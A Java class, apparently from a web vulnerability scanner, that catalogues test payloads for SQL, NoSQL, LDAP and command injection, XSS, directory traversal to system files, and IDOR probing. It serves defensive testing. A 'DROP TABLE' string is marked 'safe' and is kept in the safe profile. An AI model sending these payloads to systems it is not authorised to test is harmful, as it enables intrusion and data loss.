package com.webprobe.scanner.payload;

import com.webprobe.scanner.payload.NumericDirective.Kind;

import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

/**
 * Каталог полезных нагрузок по категориям уязвимостей.
 *
 * Экземпляры неизменяемы, поэтому каталог можно читать из любого потока.
 * Порядок категорий и нагрузок внутри категории фиксирован.
 */
public final class PayloadCatalog {

    public static final String SQLI = "sqli";
    public static final String XSS = "xss";
    public static final String TRAVERSAL = "traversal";
    public static final String IDOR_NUMERIC = "idor_numeric";
    public static final String COMMAND_INJECTION = "command_injection";
    public static final String LDAP_INJECTION = "ldap_injection";
    public static final String NOSQL_INJECTION = "nosql_injection";

    /** Категории, разрушительные по своей природе. */
    private static final Set<String> DESTRUCTIVE_CATEGORIES = Set.of(TRAVERSAL);

    private static final PayloadCatalog DEFAULT = new PayloadCatalog(buildDefaults());

    private final Map<String, List<Payload>> entries;

    private PayloadCatalog(Map<String, List<Payload>> entries) {
        this.entries = entries;
    }

    public static PayloadCatalog defaults() {
        return DEFAULT;
    }

    /**
     * Каталог для профиля: safe исключает разрушительные категории.
     */
    public static PayloadCatalog forProfile(PayloadProfile profile) {
        if (profile == null || profile == PayloadProfile.SAFE) {
            Map<String, List<Payload>> safe = new LinkedHashMap<>();
            DEFAULT.entries.forEach((category, payloads) -> {
                if (!DESTRUCTIVE_CATEGORIES.contains(category)) {
                    safe.put(category, payloads);
                }
            });
            return new PayloadCatalog(Collections.unmodifiableMap(safe));
        }
        return DEFAULT;
    }

    public static PayloadCatalog of(Map<String, List<Payload>> entries) {
        Map<String, List<Payload>> copy = new LinkedHashMap<>();
        if (entries != null) {
            entries.forEach((category, payloads) ->
                copy.put(category, payloads == null ? List.of() : List.copyOf(payloads)));
        }
        return new PayloadCatalog(Collections.unmodifiableMap(copy));
    }

    public Map<String, List<Payload>> entries() {
        return entries;
    }

    public List<String> categories() {
        return List.copyOf(entries.keySet());
    }

    public List<Payload> payloads(String category) {
        return entries.getOrDefault(category, List.of());
    }

    public Map<String, Integer> counts() {
        Map<String, Integer> counts = new LinkedHashMap<>();
        entries.forEach((category, payloads) -> counts.put(category, payloads.size()));
        return counts;
    }

    /**
     * Количество нагрузок по категориям для профиля.
     */
    public static Map<String, Integer> countsFor(PayloadProfile profile) {
        return forProfile(profile).counts();
    }

    public int size() {
        return entries.values().stream().mapToInt(List::size).sum();
    }

    /**
     * lab-only: категория разрушительна сама по себе или заметка нагрузки
     * помечает её как lab-only/destructive.
     */
    public static boolean isLabOnly(String category, Payload payload) {
        if (category != null && DESTRUCTIVE_CATEGORIES.contains(category)) {
            return true;
        }
        if (payload == null || payload.getNote() == null) {
            return false;
        }
        String note = payload.getNote().toLowerCase(Locale.ROOT);
        return note.contains("lab-only") || note.contains("destructive");
    }

    private static Map<String, List<Payload>> buildDefaults() {
        Map<String, List<Payload>> map = new LinkedHashMap<>();

        map.put(SQLI, List.of(
            LiteralPayload.of("' OR '1'='1", "safe SQL injection test"),
            LiteralPayload.of("' OR 1=1--", "safe SQL injection test"),
            LiteralPayload.of("' UNION SELECT NULL--", "safe UNION injection test"),
            LiteralPayload.of("'; DROP TABLE test--", "safe SQL injection test"),
            LiteralPayload.of("' OR 'x'='x", "safe SQL injection test"),
            LiteralPayload.of("1' OR '1'='1", "safe SQL injection test"),
            LiteralPayload.of("admin'--", "safe SQL injection test"),
            LiteralPayload.of("' OR 1=1#", "safe SQL injection test")
        ));

        map.put(XSS, List.of(
            LiteralPayload.of("<script>alert(1)</script>", "reflected XSS detection"),
            LiteralPayload.of("<img src=x onerror=alert(1)>", "reflected XSS detection"),
            LiteralPayload.of("<svg onload=alert(1)>", "reflected XSS detection"),
            LiteralPayload.of("javascript:alert(1)", "reflected XSS detection"),
            LiteralPayload.of("<iframe src=javascript:alert(1)></iframe>", "reflected XSS detection"),
            LiteralPayload.of("<body onload=alert(1)>", "reflected XSS detection"),
            LiteralPayload.of("<input onfocus=alert(1) autofocus>", "reflected XSS detection"),
            LiteralPayload.of("<select onfocus=alert(1) autofocus>", "reflected XSS detection")
        ));

        map.put(TRAVERSAL, List.of(
            LiteralPayload.of("../../../../etc/passwd", "lab-only directory traversal"),
            LiteralPayload.of("..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts", "lab-only directory traversal"),
            LiteralPayload.of("....//....//....//etc/passwd", "lab-only directory traversal"),
            LiteralPayload.of("..%2F..%2F..%2F..%2Fetc%2Fpasswd", "lab-only directory traversal"),
            LiteralPayload.of("..%252F..%252F..%252F..%252Fetc%252Fpasswd", "lab-only directory traversal"),
            LiteralPayload.of("..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "lab-only directory traversal")
        ));

        map.put(IDOR_NUMERIC, List.of(
            NumericDirective.adjacent(1, "IDOR adjacent test"),
            NumericDirective.adjacent(-1, "IDOR adjacent test"),
            NumericDirective.fixed(Kind.LARGE, 999999, "IDOR large value test"),
            NumericDirective.fixed(Kind.LARGE, 0, "IDOR zero value test"),
            NumericDirective.fixed(Kind.NEGATIVE, -1, "IDOR negative value test"),
            NumericDirective.fixed(Kind.NEGATIVE, -999999, "IDOR negative value test")
        ));

        map.put(COMMAND_INJECTION, List.of(
            LiteralPayload.of("; ls", "safe command injection test"),
            LiteralPayload.of("| whoami", "safe command injection test"),
            LiteralPayload.of("& echo test", "safe command injection test"),
            LiteralPayload.of("`id`", "safe command injection test"),
            LiteralPayload.of("$(whoami)", "safe command injection test")
        ));

        map.put(LDAP_INJECTION, List.of(
            LiteralPayload.of("*", "safe LDAP injection test"),
            LiteralPayload.of("*)(uid=*", "safe LDAP injection test"),
            LiteralPayload.of("*)(|(uid=*", "safe LDAP injection test"),
            LiteralPayload.of("*)(&(uid=*", "safe LDAP injection test")
        ));

        map.put(NOSQL_INJECTION, List.of(
            LiteralPayload.of("' || '1'=='1", "safe NoSQL injection test"),
            LiteralPayload.of("' || 1==1", "safe NoSQL injection test"),
            LiteralPayload.of("'; return true; //", "safe NoSQL injection test"),
            LiteralPayload.of("'; return 1; //", "safe NoSQL injection test")
        ));

        return Collections.unmodifiableMap(map);
    }
}
